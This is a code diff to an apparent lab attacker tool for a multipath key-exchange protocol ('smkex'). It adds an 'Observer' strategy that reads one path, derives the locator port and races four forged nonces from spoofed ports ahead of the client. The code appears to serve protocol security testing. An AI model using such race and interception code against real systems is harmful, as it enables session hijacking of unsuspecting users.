@@ -14,13 +14,15 @@ from pathlib import Path
 
 from lab.attack.impersonation import Impersonator, forged_identity
 from lab.attack.interception import PORT
-from lab.attack.strategies import STRATEGIES, Strategy, race_nonce
+from lab.attack.strategies import STRATEGIES, Strategy, invent_nonce
 from lab.attack.talk import AttackerChannel
 from lab.attack.tls_path import AttackerIdentity, Cutter, as_subflow, relay_server_info
 from smkex.core.errors import SmkexError
 from smkex.core.handshake.tls import FIRST_BYTE
 from smkex.core.wire.frame import FrameType
 from smkex.core.wire.frame_reader import FrameReader
+from smkex.core.wire.locator import port_locator
+from smkex.core.wire.messages import ServerShare
 
 IP_TRANSPARENT = 19
 PATIENCE = 5.0  # seconds for the other end to take a connection
@@ -108,20 +110,18 @@ class AttackerRelay:
                 sink.shutdown(socket.SHUT_WR)
 
 
-async def run_nonce_race(
-    relay_to: tuple[str, int], own: tuple[str, int], client_nonce: bytes
-) -> socket.socket:
-    """Open a connection of the attacker's own to the locator, send a nonce for the session, wait for the answer."""
-    sock = await dial(own, relay_to)
+async def send_nonce(locator: tuple[str, int], own: tuple[str, int], nonce: bytes) -> socket.socket:
+    """Open a connection of the attacker's own to the locator, send a ClientNonce, wait for the answer."""
+    sock = await dial(own, locator)
     loop = asyncio.get_running_loop()
-    await loop.sock_sendall(sock, race_nonce(client_nonce))
+    await loop.sock_sendall(sock, nonce)
     answer = await loop.sock_recv(sock, CHUNK)
     log_line(f"raced: {FrameType(answer[0]).name if answer else 'nothing'}")
     return sock
 
 
 class Racer(Strategy):
-    """Holds the client's nonce back until one of its own has been answered on a connection of its own."""
+    """Holds the client's nonce back until copies of it have been answered on connections of its own."""
 
     def __init__(self, talk: AttackerChannel | None) -> None:
         super().__init__(talk)
@@ -132,8 +132,30 @@ class Racer(Strategy):
         if kind is FrameType.CLIENT_NONCE:
             for offset in (1, 2, 3):
                 own = (self.client[0], (self.client[1] + offset) % 65536 or 1)
-                self._kept.append(await run_nonce_race(self.target, own, frame))
+                self._kept.append(await send_nonce(self.target, own, frame))
         return frame
+
+
+class Observer(Racer):
+    """Reads path 0, and has sent four nonces of its own to the locator before the client knows it."""
+
+    _share = b""
+
+    async def to_edge(self, kind: FrameType, frame: bytes) -> bytes:
+        if kind is FrameType.CLIENT_SHARE:
+            self._share = frame
+        return frame
+
+    async def to_client(self, kind: FrameType, frame: bytes) -> bytes:
+        if kind is FrameType.SERVER_SHARE:
+            locator = self.target[0], port_locator(ServerShare.parse(frame).edge_id)
+            for offset in (1, 2, 3, 4):
+                own = (self.client[0], (self.client[1] + offset) % 65536 or 1)
+                self._kept.append(await send_nonce(locator, own, invent_nonce(self._share)))
+        return frame
+
+
+RACERS = {"race": Racer, "observe": Observer}
 
 
 async def _serve(options: argparse.Namespace) -> None:
@@ -182,7 +204,7 @@ async def _relay_connection(
         await _attack_between(options, phone, edge)
         return
     name = "pass" if options.strategy == "cut-records" else options.strategy
-    strategy = Racer(talk) if name == "race" else STRATEGIES[name](talk)
+    strategy = {**STRATEGIES, **RACERS}[name](talk)
     if isinstance(strategy, Racer):
         strategy.client, strategy.target = client, target
     try:
@@ -209,7 +231,7 @@ async def _attack_between(options: argparse.Namespace, phone: socket.socket, edg
 
 def main() -> None:
     parser = argparse.ArgumentParser(prog="lab.attack.attacker")
-    parser.add_argument("strategy", choices=[*STRATEGIES, "race", "impersonate", "tls-mitm", "cut-records"])
+    parser.add_argument("strategy", choices=[*STRATEGIES, *RACERS, "impersonate", "tls-mitm", "cut-records"])
     parser.add_argument("--path", type=int, required=True)
     parser.add_argument("--talk", type=Path)
     parser.add_argument("--edge-id", type=int, default=1)
